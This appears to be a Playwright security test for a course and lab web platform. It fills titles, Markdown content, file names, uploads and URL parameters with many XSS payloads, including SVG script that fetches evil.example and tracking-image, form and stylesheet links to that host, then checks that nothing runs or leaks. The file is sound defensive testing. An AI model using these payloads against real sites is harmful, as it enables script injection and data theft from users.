/**
 * Hostile texts and files, sent as their users would send them, and then every page that shows
 * them, opened by somebody else on a phone: nothing runs, nothing is asked of another site, the
 * text stands there as text, and the page is still one.
 */
import { expect, type APIRequestContext, type BrowserContext, type Page } from '@playwright/test';
import { PAGES, pageOf, type PageName } from '../../web/src/app/pages.ts';
import { test } from '../support/pages-only.ts';
import { PASSWORD, type Platform } from '../support/platform.ts';
import { zipOf } from '../support/zip.ts';

/** Short enough for a title. `xss` tells the test when it runs, and so does every request to a stranger. */
const TEXTS = [
  '<script>xss()</script>',
  '<img src=x onerror=xss()>',
  '<svg onload=xss()>',
  '<svg/onload=xss()//',
  '<body onload=xss()>',
  '<details open ontoggle=xss()>',
  '<a autofocus onfocus=xss()>',
  '<iframe src=javascript:xss()>',
  '"><svg onload=xss()>',
  "'onmouseover='xss()",
  '" autofocus onfocus="xss()',
  '</title><svg onload=xss()>',
  '</script><svg onload=xss()>',
  '</style><svg onload=xss()>',
  '</textarea><svg onload=xss()>',
  '--><svg onload=xss()>',
  ']]><svg onload=xss()>',
  'javascript:xss()',
  '&lt;svg onload=xss()&gt;',
  '&#60;svg onload=xss()&#62;',
  '%3Csvg onload=xss()%3E',
  String.raw`\u003csvg onload=xss()>`,
  '[a](javascript:xss())',
  '![a](x"onerror="xss())',
  '<a href=javascript:xss()>a</a>',
  '{{constructor.constructor}}',
  '{{7*7}}${7*7}<%=7*7%>#{7*7}',
  '${xss()}',
  '`+xss()+`',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  '[object Object]',
  '\u202Egnp.exe\u2066 \u202D1',
  'a\u200Bb\u200Dc\uFEFFd',
  'a\u2028b\u2029c',
  '\uFFFD\uFDD0\u{1F468}\u200D\u{1F469}',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F',
  'W'.repeat(30),
] as const;

/** What only Markdown could turn into something. */
const MARKDOWN = [
  ...TEXTS,
  '[x](javascript:xss())',
  '[x](JaVaScRiPt:xss())',
  '[x](javascript&colon;xss())',
  '[x](&#x6A;avascript:xss())',
  '[x](java\tscript:xss())',
  '[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)',
  '[x](vbscript:xss())',
  '[x](//evil.example "a\' onmouseover=xss()")',
  '<javascript:xss()>',
  '![x](javascript:xss())',
  '![x](https://evil.example/seen.png)',
  '![x](//evil.example/seen.png)',
  '![x][r]\n\n[r]: javascript:xss() "x"',
  '<a href="javascript:xss()">x</a>',
  '<a href="java&#x0A;script:xss()">x</a>',
  '<img src=x onerror=xss()>',
  '<img srcset="https://evil.example/seen.png 1x">',
  '<picture><source srcset="https://evil.example/seen.png"><img></picture>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>xss()</script></svg>#x">',
  '<math><maction actiontype="statusline" xlink:href="javascript:xss()">x</maction></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror=xss()>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<object data="data:text/html,<script>xss()</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example/"><button>x</button></form>',
  '<button formaction="javascript:xss()">x</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<div style="position:fixed;inset:0;background:red">covers-all</div>',
  '<video src=x onerror=xss()></video><audio src=x onerror=xss()></audio>',
  '<video><source onerror=xss()></video>',
  '<template><script>xss()</script></template>',
  '<img name="getElementById"><form id="body" name="cookie"></form>',
  '<p id="root">clobbers</p>',
  String.raw`$\href{javascript:xss()}{x}$ $\url{javascript:xss()}$`,
  String.raw`$\includegraphics{https://evil.example/seen.png}$`,
  String.raw`$\htmlData{a=b}{x}$ $\htmlStyle{position:fixed}{x}$`,
  '$$\n<img src=x onerror=xss()>\n$$',
  '```html"onload="xss()\n<script>xss()</script>\n```',
  '`<img src=x onerror=xss()>`',
  '| a | b |\n|---|---|\n| <img src=x onerror=xss()> | [x](javascript:xss()) |',
  '[^1]\n\n[^1]: <img src=x onerror=xss()>',
  `${'W'.repeat(10_000)}`,
  `${'> '.repeat(200)}deep`,
].join('\n\n');

const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="parent.xss()"><script>parent.xss();fetch("https://evil.example/seen")</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="parent.xss()"/></body></foreignObject></svg>';
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const FILE_NAMES = [
  '<img src=x onerror=xss()>.txt',
  '"><svg onload=xss()>.c',
  "a'onmouseover='xss().py",
  'a"b.txt',
  '{{7*7}}.txt',
  '\u202Egnp.exe',
  `${'W'.repeat(120)}.txt`,
];

/** Somebody who sends things. */
async function enter(context: BrowserContext, username: string): Promise<APIRequestContext> {
  const answer = await context.request.post('/api/v1/user/auth', {
    data: { Username: username, Password: PASSWORD },
  });
  expect(answer.status()).toBe(200);
  return context.request;
}

/** What a line of text does not take. */
const UNSEEN = /[\p{Cc}\p{Cs}\u2028\u2029\u202A-\u202E\u2066-\u2069]/gu;

type Ids = Record<string, number>;

/** Sends what must be accepted. @returns the answer */
async function send(
  request: APIRequestContext,
  method: 'POST' | 'PUT',
  path: string,
  data: object,
  role = 'admin',
): Promise<Record<string, unknown> & { ID: number }> {
  const answer = await request.fetch(
    `/api/v1${path}${path.includes('?') ? '&' : '?'}role=${role}`,
    { method, data },
  );
  expect(answer.ok(), `${method} ${path}: ${await answer.text()}`).toBe(true);
  return (await answer.json()) as Record<string, unknown> & { ID: number };
}

const upload = (request: APIRequestContext, path: string, name: string, buffer: Buffer | string) =>
  request.post(`/api/v1${path}`, {
    multipart: {
      File: { name, mimeType: 'application/octet-stream', buffer: Buffer.from(buffer) },
    },
  });

const cut = (text: string, length: number): string => Array.from(text).slice(0, length).join('');

/** Homework with every text in it, one of them handed in and corrected. */
async function fillHomework(
  admin: APIRequestContext,
  student: APIRequestContext,
  ids: Ids,
): Promise<void> {
  const course = `/course/${ids['courseID']}`;
  const { ID: self } = (await (await student.get('/api/v1/user/auth')).json()) as { ID: number };
  for (const [index, text] of TEXTS.entries()) {
    const homework = await send(admin, 'POST', `${course}/homework`, {
      TitleZh: text,
      TitleEn: text,
      ContentZh: index === 0 ? MARKDOWN : text,
      DueAt: '2099-01-01T00:00:00.000Z',
      IsPublished: true,
    });
    if (index > 0) continue;
    ids['homeworkID'] = homework.ID;
    const path = `${course}/homework/${homework.ID}`;
    const files: number[] = [];
    for (const name of FILE_NAMES) {
      const sent = await upload(
        student,
        `${path}/submission/file?role=student`,
        name.replace(/\.\w+$/, '.pdf'),
        '%PDF-1.4 <script>xss()</script>',
      );
      expect([201, 400, 415], name).toContain(sent.status());
      if (sent.status() === 201) files.push(((await sent.json()) as { ID: number }).ID);
    }
    expect(files.length).toBeGreaterThan(1);
    const { Version } = await send(
      student,
      'POST',
      `${path}/submission`,
      { Text: MARKDOWN, FileIDList: files.slice(0, 5) },
      'student',
    );
    await send(admin, 'PUT', `${path}/score/${self}`, {
      Score: 1,
      Comment: TEXTS.join(' ').replaceAll(UNSEEN, ''),
      Version,
    });
  }
}

/** The first problem with its tests, published, and what a judge could say of a submission. */
async function fillProblem(
  platform: Platform,
  admin: APIRequestContext,
  student: APIRequestContext,
  ids: Ids,
): Promise<void> {
  const path = `/problem/${ids['programmingProblemID']}`;
  const text = TEXTS.join('\n').replaceAll('\u0000', '');
  const tests = await upload(
    admin,
    `${path}/tests?role=admin`,
    'tests.zip',
    zipOf({ 'input1.txt': text, 'output1.txt': text }),
  );
  expect(tests.status(), await tests.text()).toBe(200);
  await send(admin, 'PUT', `${path}/publish`, { IsPublished: true });
  const sent = await send(
    student,
    'POST',
    `${path}/submission`,
    { Language: 1, Source: text },
    'student',
  );
  const told = {
    number: 1,
    verdict: 'wrongAnswer',
    cpuMs: 1,
    wallMs: 1,
    memoryBytes: 1,
    exitCode: 0,
    signal: null,
    difference: { token: 1, expected: TEXTS[1], found: TEXTS[2] },
    errorOutput: text,
  };
  await platform.sql(
    `update problem_submission set state = 2, verdict = 'wrongAnswer', total = 1, compiler_output = $2, output = $2,
     tests = $3::jsonb, started_at = now(), judged_at = now() where id = $1`,
    [sent.ID, text, JSON.stringify([told])],
  );
}

/** Puts every text into every field that takes it. @returns what the pages' addresses need */
async function fill(
  platform: Platform,
  admin: APIRequestContext,
  student: APIRequestContext,
): Promise<Ids> {
  const specification = 2;
  const ids: Ids = {};
  // Twenty an hour are enough for people.
  const makeOlder = () =>
    platform.sql(`update suggestion set created_at = created_at - interval '2 hours'`);
  for (const [index, text] of TEXTS.entries()) {
    const lab = await send(admin, 'POST', '/lab', {
      Type: 2,
      TitleZh: text,
      TitleEn: text,
      DescriptionZh: `${text} ${'W'.repeat(100)}`,
      DescriptionEn: text,
      ContentZh: index === 0 ? MARKDOWN : text,
      ContentEn: text,
      CoverKind: 'ring',
      SpecificationID: specification,
    });
    const task = await send(admin, 'POST', `/lab/${lab.ID}/task`, {
      TitleZh: text,
      TitleEn: text,
      ContentZh: index === 0 ? MARKDOWN : text,
    });
    await send(admin, 'PUT', `/lab/${lab.ID}/publish`, { IsPublished: true });
    const software = await send(admin, 'POST', '/software', {
      Type: 2,
      TitleZh: text,
      DescriptionZh: text,
      ContentZh: index === 0 ? MARKDOWN : text,
      CoverKind: 'ring',
      SpecificationID: specification,
      IsPublished: true,
    });
    const course = await send(admin, 'POST', '/course', {
      TitleZh: text,
      TitleEn: text,
      DescriptionZh: `${text} ${'W'.repeat(100)}`,
      ContentZh: index === 0 ? MARKDOWN : text,
      CoverKind: 'ring',
      IsPublished: true,
    });
    await send(admin, 'POST', `/course/${course.ID}/notice`, {
      TitleZh: text,
      ContentZh: `${text} ${'W'.repeat(200)}`,
    });
    await send(admin, 'POST', '/specification', {
      NameZh: text,
      NameEn: text,
      ImageType: 2,
      IsShared: true,
      LifetimeSeconds: 3600,
    });
    // A line takes nothing that is not seen.
    const seen = cut(text.replaceAll(UNSEEN, ''), 50);
    const domain = await send(admin, 'POST', '/domain', { TitleZh: cut(seen, 20), Color: 1 });
    await send(admin, 'POST', `/domain/${domain.ID}/tag`, { TitleZh: cut(seen, 20), Color: 2 });
    const centre = await send(admin, 'POST', '/centre', { NameZh: seen, NameEn: seen });
    // Nobody applies this often within a quarter of an hour.
    await platform.sql('delete from login_guess');
    const application = await send(
      student,
      'POST',
      '/resource',
      {
        ApplicantName: seen,
        Organisation: seen,
        Phone: '13800138000',
        Email: 'x@example.edu',
        Project: seen,
        CentreID: centre.ID,
        CpuHours: 1,
        Purpose: cut(`${text}\n${'W'.repeat(100)}`, 200),
      },
      'student',
    );
    if (index === 0)
      await send(admin, 'PUT', `/resource/${application.ID}/account`, {
        Credentials: {
          VpnUsername: seen,
          VpnPassword: seen,
          SshAddress: 'login.example.edu',
          SshUsername: 'x',
          SshPassword: seen,
        },
        Version: 1,
      });
    else
      await send(admin, 'PUT', `/resource/${application.ID}/review`, {
        Reason: cut(text, 200),
        Version: 1,
      });
    await send(admin, 'POST', '/notification', {
      TitleZh: text,
      ContentZh: `${text} ${'W'.repeat(200)}`,
      Audience: 'users',
      Names: ['student'],
      Path: `/lab/${lab.ID}`,
    });
    await makeOlder();
    const suggestion = await send(
      student,
      'POST',
      '/suggestion',
      { Title: text, Content: `${text}\n${'W'.repeat(400)}`, IsPublic: true },
      'student',
    );
    for (const [person, role] of [
      [student, 'student'],
      [admin, 'admin'],
    ] as const)
      await send(
        person,
        'POST',
        `/suggestion/${suggestion.ID}/conversation`,
        { Content: text },
        role,
      );
    const problem = await send(admin, 'POST', '/problem', {
      TitleZh: text,
      TitleEn: text,
      ContentZh: index === 0 ? MARKDOWN : text,
      Difficulty: 1,
      Codes: [{ Language: 1, DefaultCode: `// ${text}`, ReferenceCode: text }],
      CpuMs: 1000,
      MemoryBytes: 67_108_864,
      Parallelism: 1,
      SampleCount: 1,
    });
    if (index === 0) {
      // Its notices and its homework are for those who are in it.
      await send(student, 'POST', `/course/${course.ID}/membership`, {}, 'student');
      Object.assign(ids, {
        labID: lab.ID,
        taskID: task.ID,
        softwareID: software.ID,
        courseID: course.ID,
        applyID: application.ID,
        programmingProblemID: problem.ID,
        suggestionID: suggestion.ID,
        domainID: domain.ID,
      });
    }
  }

  await fillHomework(admin, student, ids);
  await fillProblem(platform, admin, student, ids);

  // Accounts: what people say of themselves, and what a class list says of them.
  const { ID: self } = (await (await student.get('/api/v1/user/auth')).json()) as { ID: number };
  await send(
    student,
    'PUT',
    `/user/${self}`,
    {
      Nickname: '<svg onload=a>',
      Organisation: '<img src=x onerror=xss()>',
      RealName: '"><svg onload=xss()>',
      StudentNumber: '<script>xss()</script>',
    },
    'student',
  );
  await send(admin, 'POST', '/user/import', {
    Rows: TEXTS.filter((text) => !/[\p{Cc}\u2028\u2029\u202A-\u202E\u2066-\u2069]/u.test(text)).map(
      (text, index) => ({
        Row: index + 2,
        Username: `odd-${index}`,
        Email: `odd-${index}@example.edu`,
        Nickname: '<svg onload=a>',
        RealName: text,
        StudentID: text,
        Organisation: text,
        Type: 4,
      }),
    ),
  });
  await platform.sql(
    `update user_account set apply_status = 1, applied_at = now() where username = 'graduate'`,
  );
  const [applicant] = await platform.sql<{ id: number; version: number }>(
    `select id, version from user_account where username = 'graduate'`,
  );
  await send(admin, 'PUT', `/user/${applicant?.id}/role`, {
    Action: 'reject',
    Reason: TEXTS.slice(0, 6).join(' '),
    Version: applicant?.version,
  });

  // An environment that staff end with a reason, and the traces that a visitor leaves.
  const [usage] = await platform.sql<{ id: number }>(
    `insert into usage (user_id, status, phase, renewal_time, lifetime_seconds, type, title_zh, title_en, route_name, route_path, nodes, cpus, memory_bytes, address, created_at, ready_at)
     values ($1, 1, 'ready', extract(epoch from now())::bigint, 3600, 2, $2, $2, $2, '/lab', '[]', 1, 1, '127.0.0.1:1', now(), now()) returning id`,
    [self, TEXTS[2]],
  );
  await send(admin, 'POST', `/environment/${usage?.id}/end`, {
    Reason: TEXTS.slice(0, 6).join(' '),
  });
  const seen = await student.post('/api/v1/track', {
    form: { Type: '101', SessionId: 'a-session-of-a-tab', URL: TEXTS[1], FromURL: TEXTS[2] },
  });
  expect(seen.status()).toBe(202);

  // Files: their names, and what is in them.
  for (const name of FILE_NAMES) {
    const sent = await upload(
      admin,
      `/lab/${ids['labID']}/resource?role=admin&type=1&title=${encodeURIComponent(cut(name, 50))}`,
      name,
      'x',
    );
    expect([201, 400], name).toContain(sent.status());
  }
  const media = await upload(admin, `/lab/${ids['labID']}/media?role=admin`, 'a.svg', SVG);
  expect(media.status()).toBe(201);
  const { Path } = (await media.json()) as { Path: string };
  const shown = await send(admin, 'POST', `/lab/${ids['labID']}/task`, {
    TitleZh: 'SVG',
    ContentZh: `![a](${Path})`,
  });
  ids['pictureTaskID'] = shown.ID;
  for (const [what, content] of [
    ['a.svg', SVG],
    ['a.png', SVG],
    ['a.html', '<script>xss()</script>'],
  ] as const) {
    expect(
      (await upload(student, `/user/${self}/avatar?role=student`, what, content)).status(),
    ).toBe(415);
    expect(
      (await upload(student, '/suggestion/picture?role=student', what, content)).status(),
    ).toBe(415);
  }
  // A picture with a page behind it becomes a picture.
  const both = Buffer.concat([PIXEL, Buffer.from('<script>xss()</script>')]);
  expect((await upload(student, `/user/${self}/avatar?role=student`, 'a.png', both)).status()).toBe(
    201,
  );
  ids['userID'] = self;
  return ids;
}

/** Whatever happened that must not. */
async function watch(context: BrowserContext, origin: string): Promise<string[]> {
  const faults: string[] = [];
  await context.exposeFunction('xss', () => void faults.push('a script ran'));
  await context.exposeFunction('violated', (what: string) => void faults.push(what));
  await context.addInitScript(() => {
    // What the policy stops within a mail's own frame, it stops as it should.
    if (self !== top) return;
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) => {
      // Pictures of another site stay out by the policy; a script that it stopped should not have come so far.
      if (!violatedDirective.startsWith('img-src'))
        (globalThis as unknown as { violated: (what: string) => void }).violated(
          `${violatedDirective}: ${blockedURI} ${sample}`,
        );
    });
  });
  await context.route(
    (url) => url.origin !== origin && !['data:', 'blob:'].includes(url.protocol),
    (route) => {
      faults.push(`asked ${route.request().url()}`);
      return route.abort();
    },
  );
  context.on('dialog', (dialog) => {
    faults.push(`a dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on('weberror', (error) => faults.push(`an error: ${error.error().message}`));
  return faults;
}

/** Elements that only a hostile text could have made, and what else is wrong with a page. */
const examine = (page: Page): Promise<string[]> =>
  page.evaluate(() => {
    const found: string[] = [];
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        if (name.startsWith('on')) found.push(`${element.tagName} with ${name}`);
        if (['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].includes(name)) {
          // oxlint-disable-next-line no-control-regex -- what browsers leave out of a scheme
          const scheme = value.replaceAll(/[\u0000-\u0020]/g, '').toLowerCase();
          if (/^(?:javascript|vbscript|data:text)/.test(scheme))
            found.push(`${element.tagName} with ${value}`);
        }
      }
    }
    for (const { outerHTML } of document.querySelectorAll(
      'body iframe:not([sandbox]), object, embed, base, body meta, body link[rel=stylesheet], body style:not([data-css-hash],[data-rc-order],[data-token-hash]), form[action*="evil"], template, noscript + img',
    ))
      if (/evil|xss/.test(outerHTML)) found.push(outerHTML.slice(0, 120));
    const cover = [...document.querySelectorAll('div')].find(
      ({ textContent, children }) => textContent === 'covers-all' && children.length === 0,
    );
    if (cover && getComputedStyle(cover).position === 'fixed') found.push('a text covers the page');
    if (typeof document.getElementById !== 'function') found.push('a text replaced a function');
    if (document.querySelectorAll('#root').length !== 1) found.push('a text took the root’s name');
    // A text that is cut off where nobody can scroll; dots say that there is more.
    for (const element of document.querySelectorAll<HTMLElement>(
      'main :is(p, h1, h2, h3, dd, td, th)',
    )) {
      const style = getComputedStyle(element);
      if (style.display === 'inline' || style.textOverflow === 'ellipsis') continue;
      const isScrolled = (one: Element | null): boolean =>
        one !== null &&
        (['auto', 'scroll'].includes(getComputedStyle(one).overflowX) ||
          isScrolled(one.parentElement));
      if (element.scrollWidth > element.clientWidth + 1 && !isScrolled(element))
        found.push(`${element.tagName} cut off: ${element.textContent.slice(0, 40)}`);
    }
    const wide = document.documentElement.scrollWidth - document.documentElement.clientWidth;
    if (wide > 1) found.push(`wider than the window by ${wide}`);
    return found;
  });

/** Pages that show nothing of others, or need another site or a running environment. */
const EXCUSED: Readonly<Partial<Record<PageName, string>>> = {
  loginArose: 'on the way back from another site',
  loginScnet: 'on the way back from another site',
  authorize: 'on the way to another site',
  selectPage: 'sso.spec.ts signs on with a hostile name',
  adminImageEdit: 'needs an image that somebody has committed; its form is that of the creation',
};

const squeezed = (text: string): string => text.replaceAll(/\s+/gu, ' ').trim();

/** Opens every page. @returns everything that stood there */
async function walk(
  page: Page,
  ids: Ids,
  isAdmin: boolean,
  faults: string[],
): Promise<{ texts: string; found: string[] }> {
  const found: string[] = [];
  let texts = '';
  const values: Readonly<Record<string, string | number | undefined>> = {
    specificationID: 3,
    imageID: 1,
    kind: 'notebook',
    // The pages go on to the state that holds.
    applyStatus: 'pending',
    ...ids,
  };
  const look = async (address: string): Promise<void> => {
    const before = faults.length;
    await page.goto(address);
    await expect(page.getByRole('heading', { level: 1 }).first(), address).toBeVisible();
    await expect(page.locator('main [aria-busy=true]'), address).toHaveCount(0);
    texts += ` ${squeezed(await page.locator('body').innerText())}`;
    found.push(...(await examine(page)).map((what) => `${address}: ${what}`));
    found.push(...faults.slice(before).map((what) => `${address}: ${what}`));
  };
  for (const name of Object.keys(PAGES) as PageName[]) {
    const { area, path } = pageOf(name);
    if ((area === 'admin') !== isAdmin || EXCUSED[name] !== undefined) continue;
    const address = path.replaceAll(/\$(\w+)/g, (_whole, parameter: string) =>
      String(values[parameter] ?? `no ${parameter}`),
    );
    await look(address);
    if (name === 'courseDetail')
      for (const tab of ['notice', 'member', 'homework']) await look(`${address}?tab=${tab}`);
    if (name === 'programmingProblemSubmission' || name === 'adminProblemSubmissions') {
      const row = page.getByRole('row', { name: /提交 #/ }).first();
      if (await row.isVisible()) {
        await row.getByRole('button', { name: '查看' }).click();
        await expect(page.getByRole('dialog')).toContainText(TEXTS[0]);
        found.push(...(await examine(page)).map((what) => `${address}, opened: ${what}`));
      }
    }
    // Lists: the pages behind the first as well.
    if (!path.includes('$') && (await page.getByRole('navigation', { name: /分页/ }).count()) > 0)
      for (const number of [2, 3]) await look(`${address}?page=${number}`);
  }
  return { texts, found };
}

test('hostile texts and files do nothing on any page', async ({ browser, platform }) => {
  test.setTimeout(600_000);
  const open = async (username: string) => {
    const context = await browser.newContext({
      baseURL: platform.origin,
      locale: 'zh-CN',
      viewport: { width: 390, height: 844 },
    });
    return { context, request: await enter(context, username) };
  };
  const [admin, student] = [await open('admin'), await open('student')];
  const ids = await fill(platform, admin.request, student.request);

  const missing: Record<string, readonly string[]> = {};
  const found: string[] = [];
  for (const [name, { context }, isAdmin] of [
    ['student2', await open('student2'), false],
    ['student', student, false],
    ['admin', admin, true],
  ] as const) {
    const faults = await watch(context, platform.origin);
    const page = await context.newPage();
    const walked = await walk(page, ids, isAdmin, faults);
    found.push(...walked.found.map((what) => `${name}: ${what}`));
    // Every text is somewhere, as it was sent.
    missing[name] = TEXTS.filter((text) => !walked.texts.includes(squeezed(text)));
    await page.close();
  }
  expect(found).toEqual([]);
  expect(missing).toEqual({ student2: [], student: [], admin: [] });

  // What a file holds does not run when somebody opens it by its address.
  const faults: string[] = [];
  const page = await admin.context.newPage();
  page.on('console', (message) => {
    if (/xss|evil/.test(message.text()) && message.type() !== 'error') faults.push(message.text());
  });
  await page.goto(`/lab/${ids['labID']}/notebook/task/${ids['pictureTaskID']}`);
  const [media] = await platform.sql<{ content: string }>(
    `select content_zh as content from lab_task where id = $1`,
    [ids['pictureTaskID']],
  );
  const path = /\((.+)\)/.exec(media?.content ?? '')?.[1] ?? '';
  const answer = await page.goto(`/api/v1/lab/${ids['labID']}/${path}`);
  expect(answer?.headers()['content-security-policy']).toContain('sandbox');
  expect(answer?.headers()['x-content-type-options']).toBe('nosniff');
  const avatar = await admin.request.get(`/api/v1/user/${ids['userID']}/avatar?role=admin`);
  expect(avatar.headers()['content-type']).toMatch(/^image\/(?:webp|png|jpeg)$/);
  expect((await avatar.body()).includes('xss')).toBe(false);
  expect(faults).toEqual([]);
  for (const { context } of [admin, student]) await context.close();
});

test('nor does a class list that is looked at before it is imported, or a mail that is read', async ({
  browser,
  platform,
}) => {
  const context = await browser.newContext({
    baseURL: platform.origin,
    locale: 'zh-CN',
    viewport: { width: 390, height: 844 },
  });
  await enter(context, 'admin');
  const faults = await watch(context, platform.origin);
  const page = await context.newPage();
  await page.goto('/admin/user');
  await page.getByRole('button', { name: '导入名单…' }).click();
  const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
  const rows = TEXTS.map((text) => Array.from({ length: 7 }, () => quoted(text)).join(','));
  const [heading] = await Promise.all([
    page.waitForEvent('download').then(async (download) => {
      const parts: Buffer[] = [];
      for await (const part of await download.createReadStream()) parts.push(part as Buffer);
      return Buffer.concat(parts).toString().trim();
    }),
    page.getByRole('dialog').getByRole('button', { name: /模板/ }).click(),
  ]);
  await page.locator('input[type=file]').setInputFiles({
    name: '"><svg onload=xss()>.csv',
    mimeType: 'text/csv',
    buffer: Buffer.from([heading, ...rows].join('\n')),
  });
  const dialog = page.getByRole('dialog');
  await expect(dialog.getByText('<svg onload=xss()>').first()).toBeVisible();
  const found = await examine(page);
  // The reason of a rejection and a nickname stand in the mail; as a page and as text.
  await platform.sql(
    `insert into mail (recipient, language, template, subject, text, html, message_id, state)
     values ('x@example.edu', 'zh-CN', 'digest', $1, $2, $3, '<x@x>', 'captured')`,
    [TEXTS[1], MARKDOWN, `<!doctype html><body>${MARKDOWN}<script>parent.xss();xss()</script>`],
  );
  await page.goto(`/admin/mail?keyword=${encodeURIComponent(TEXTS[1])}`);
  await page.getByRole('button', { name: /^查看/ }).first().click();
  await expect(dialog.locator('iframe')).toHaveAttribute('sandbox', /^(?!.*allow-scripts)/);
  await dialog.getByText('纯文本').click();
  await expect(dialog.getByLabel('邮件内容')).toContainText('<svg onload=xss()>');
  found.push(...(await examine(page)));
  expect([...found, ...faults]).toEqual([]);
  await context.close();
});

/** What stands in an address is shown by pages too: an empty search, a missing page. */
const ADDRESSES = [
  '/lab?keyword=TEXT',
  '/software?keyword=TEXT',
  '/suggestion?keyword=TEXT',
  '/notification?keyword=TEXT',
  '/lab?page=TEXT',
  '/lab?sort=TEXT',
  '/lab/TEXT',
  '/suggestion/TEXT',
  '/TEXT',
  '/404?from=TEXT',
  '/login?redirect=TEXT',
  '/register?redirect=TEXT',
  '/authorize?provider=TEXT',
  '/login/arose?code=TEXT&state=TEXT',
  '/login/arose?error=TEXT&error_description=TEXT',
  '/select?provider=TEXT',
  '/result/password-reset#TEXT',
  '/admin/user?keyword=TEXT',
  '/admin/user?organisation=TEXT',
  '/admin/audit?keyword=TEXT',
  '/course?keyword=TEXT&tags=TEXT&joined=TEXT',
  '/course/1?tab=TEXT&page=TEXT',
  '/admin/course?keyword=TEXT&relation=TEXT',
  '/admin/mail?keyword=TEXT',
];

test('nor does what stands in an address', async ({ browser, platform }) => {
  test.setTimeout(300_000);
  const context = await browser.newContext({
    baseURL: platform.origin,
    locale: 'zh-CN',
    viewport: { width: 390, height: 844 },
  });
  await enter(context, 'admin');
  const faults = await watch(context, platform.origin);
  const page = await context.newPage();
  const found: string[] = [];
  for (const address of ADDRESSES) {
    for (const text of ['"><img src=x onerror=xss()>', 'javascript:xss()', '//evil.example']) {
      await page.goto(address.replaceAll('TEXT', encodeURIComponent(text)));
      await expect(page.getByRole('heading', { level: 1 }).first(), address).toBeVisible();
      found.push(...(await examine(page)).map((what) => `${address} ${text}: ${what}`));
      expect(new URL(page.url()).origin).toBe(platform.origin);
    }
  }
  expect([...found, ...faults]).toEqual([]);
  await context.close();
});
